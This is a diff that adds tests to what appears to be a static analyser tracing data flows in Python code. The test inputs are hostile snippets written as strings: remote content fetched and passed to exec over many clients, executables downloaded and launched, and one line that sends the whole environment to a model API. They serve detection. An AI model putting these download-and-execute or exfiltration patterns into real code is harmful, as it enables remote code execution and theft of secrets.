@@ -71,3 +71,45 @@ test.each(['import pyperclip\nexec(pyperclip.paste())', 'import os\nexec(os.getx
 test('a program whose place the registry knows is started', async () => {
   expect(await found(runsShippedData, 'import subprocess, winreg\nsubprocess.run([winreg.QueryValueEx(k, "leaf")[0]])')).toEqual([]);
 });
+
+const ran = async (text: string) => (await read(`import os, requests\n${text}\n`)).facts?.flows({ from: 'network', to: 'exec' }).map(({ sink }) => sink.name) ?? [];
+const WRITES = 'open(os.path.join(os.path.dirname(__file__), "leaf.py"), "w").write(requests.get(u).text)';
+
+test.each([`${WRITES}\nfrom . import leaf`, `${WRITES}\nfrom .leaf import f`, `${WRITES}\nimport importlib\nimportlib.import_module("garden.leaf")`])('a module that was fetched is imported: %s', async (text) => {
+  expect(await ran(text)).toEqual(['import']);
+});
+
+test.each([`${WRITES}\nfrom . import stem`, 'open(os.path.join(os.path.dirname(__file__), "leaf.json"), "w").write(requests.get(u).text)\nfrom . import leaf', 'open(os.path.join(os.path.dirname(__file__), "leaf.py"), "w").write(str(1))\nfrom . import leaf'])('another one, or one of its own making, is not: %s', async (text) => {
+  expect(await ran(text)).toEqual([]);
+});
+
+test.each([
+  'import redis\np = redis.Redis("garden.invalid").pubsub()\nfor m in p.listen(): exec(m["data"])',
+  'from kafka import KafkaConsumer\nfor m in KafkaConsumer("x", bootstrap_servers="garden.invalid"): exec(m.value)',
+  'import aiohttp\nasync def m():\n    async with aiohttp.ClientSession() as s:\n        async with s.ws_connect(u) as w:\n            async for m in w: exec(m.data)',
+  'import tornado.websocket\nasync def m():\n    c = await tornado.websocket.websocket_connect(u)\n    exec(await c.read_message())',
+  'import asyncio\nclass P(asyncio.Protocol):\n    def data_received(self, data): exec(data)',
+  'from twisted.internet import protocol\nclass P(protocol.Protocol):\n    def dataReceived(self, data): exec(data)',
+  'import asyncore\nclass C(asyncore.dispatcher):\n    def handle_read(self): exec(self.recv(1000))',
+  'import urllib.request\nclass H(urllib.request.BaseHandler):\n    def http_response(self, asked, reply): exec(reply.read())',
+  'import urllib.request, urllib.error\ntry: urllib.request.urlopen(u)\nexcept urllib.error.HTTPError as e: exec(e.read())',
+  'import win32com.client\nh = win32com.client.Dispatch("WinHttp.WinHttpRequest.5.1")\nh.Send()\nexec(h.ResponseText)',
+  'from PyQt5.QtNetwork import QNetworkAccessManager\nexec(QNetworkAccessManager().get(u).readAll())',
+  'import ssl\nexec(ssl.get_server_certificate(("garden.invalid", 443)))',
+  'import paramiko\nexec(paramiko.SSHClient().open_sftp().open("x").read())',
+])('code comes by any client: %s', async (text) => {
+  expect(await ran(text)).toEqual(['exec']);
+});
+
+test('what a model is asked leaves the machine, and what it says is not fetched', async () => {
+  const { facts } = await read('import anthropic, os\nr = anthropic.Anthropic().messages.create(messages=[{"role": "user", "content": str(dict(os.environ))}])\nexec(r)\n');
+  expect([facts?.flows({ from: 'environment', to: 'network' }).length, facts?.flows({ from: 'network', to: 'exec' }).length]).toEqual([1, 0]);
+});
+
+test.each([
+  'import ctypes\nctypes.windll.urlmon.URLDownloadToFileW(0, "https://garden.invalid/a.exe", "leaf.exe", 0, 0)\nos.startfile("leaf.exe")',
+  'import boto3, subprocess\nboto3.client("s3").download_file("x", "leaf.sh", "/tmp/leaf.sh")\nsubprocess.run(["sh", "/tmp/leaf.sh"])',
+  'import subprocess\nsubprocess.run(["gsutil", "cp", "gs://x/leaf.sh", "/tmp/leaf.sh"])\nsubprocess.run(["sh", "/tmp/leaf.sh"])',
+])('a program that was fetched into a file is started: %s', async (text) => {
+  expect((await read(`import os\n${text}\n`)).facts?.flows({ from: 'network', to: 'process' }).map(({ through }) => through)).toContain('file');
+});
